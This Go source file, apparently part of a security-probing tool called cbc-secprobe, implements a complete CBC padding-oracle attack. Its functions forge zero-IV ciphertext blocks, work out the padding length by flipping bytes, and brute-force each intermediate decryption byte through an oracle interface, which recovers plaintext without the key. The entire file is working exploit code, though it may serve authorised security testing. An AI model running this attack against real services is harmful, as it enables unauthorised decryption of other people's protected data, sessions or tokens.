package attack

import (
	"context"
	"fmt"

	"cbc-secprobe/internal/oracle"
)

// query funnels every oracle call so transport failures surface as
// ErrOracleUnavailable instead of masquerading as padding verdicts.
func query(ctx context.Context, o oracle.Oracle, candidate []byte) (bool, error) {
	ok, err := o.Query(ctx, candidate)
	if err != nil {
		return false, fmt.Errorf("%w: %v", ErrOracleUnavailable, err)
	}
	return ok, nil
}

// forge assembles the zero-IV candidate zero‖r‖block sent on every probe.
func forge(zero, r, block []byte) []byte {
	out := make([]byte, 0, len(zero)+len(r)+len(block))
	out = append(out, zero...)
	out = append(out, r...)
	out = append(out, block...)
	return out
}

// paddingLength determines how much padding the currently-valid forged block r
// implies for block. It flips each byte of r left to right: the first flip the
// oracle rejects sits inside the padding. r is restored on every path.
//
// Precondition: the oracle already accepts zero‖r‖block.
func paddingLength(ctx context.Context, o oracle.Oracle, r, block []byte) (int, error) {
	size := len(r)
	zero := make([]byte, size)
	ok, err := query(ctx, o, forge(zero, r, block))
	if err != nil { return 0, err }
	if !ok { return 0, ErrInvalidPrecondition }
	for i := 0; i < size; i++ {
		r[i] ^= 0xff
		ok, err := query(ctx, o, forge(zero, r, block))
		r[i] ^= 0xff
		if err != nil { return 0, err }
		if !ok {
			return size - i, nil
		}
	}
	// Unreachable with an honest oracle: flipping the final pad byte always
	// breaks the check. Treat it as full-block padding, the only reading left.
	return size, nil
}

// RecoverBlock recovers the block cipher's raw decryption output for one
// ciphertext block, using only the oracle and a zero placeholder IV. The true
// previous ciphertext block is not needed until the final plaintext XOR.
func RecoverBlock(ctx context.Context, o oracle.Oracle, block []byte, blockSize int) ([]byte, error) {
	if blockSize <= 0 || len(block) != blockSize {
		return nil, ErrMalformedCiphertext
	}
	zero := make([]byte, blockSize)
	r := make([]byte, blockSize)

	// Bootstrap: walk the last byte of r until the oracle accepts some
	// padding of unknown length. Bounded so a dead oracle cannot hang us.
	valid := false
	for attempt := 0; attempt < 256; attempt++ {
		r[blockSize-1]++
		ok, err := query(ctx, o, forge(zero, r, block))
		if err != nil { return nil, err }
		if ok {
			valid = true
			break
		}
	}
	if !valid {
		return nil, ErrOracleInconsistency
	}

	p, err := paddingLength(ctx, o, r, block)
	if err != nil { return nil, err }

	// A valid pad of length p pins the last p intermediate bytes at once.
	d := make([]byte, blockSize)
	for j := blockSize - p; j < blockSize; j++ {
		d[j] = r[j] ^ byte(p)
	}

	for i := blockSize - p - 1; i >= 0; i-- {
		pad := byte(blockSize - i)
		for j := i + 1; j < blockSize; j++ {
			r[j] = d[j] ^ pad
		}
		v, err := searchByte(ctx, o, zero, r, block, i, pad)
		if err != nil {
			return nil, fmt.Errorf("byte %d: %w", i, err)
		}
		r[i] = v
		d[i] = v ^ pad
	}
	return d, nil
}

// searchByte exhausts all 256 values for r[i] until the forged block decrypts
// with valid padding. When hunting a 1-byte pad at the last position, the
// block's untouched byte value is skipped: it would merely re-observe the
// message's own padding rather than pin the intermediate byte.
func searchByte(ctx context.Context, o oracle.Oracle, zero, r, block []byte, i int, pad byte) (byte, error) {
	orig := r[i]
	for g := 0; g < 256; g++ {
		if pad == 1 && i == len(r)-1 && byte(g) == orig {
			continue
		}
		r[i] = byte(g)
		ok, err := query(ctx, o, forge(zero, r, block))
		if err != nil { return 0, err }
		if ok {
			return byte(g), nil
		}
	}
	return 0, ErrOracleInconsistency
}
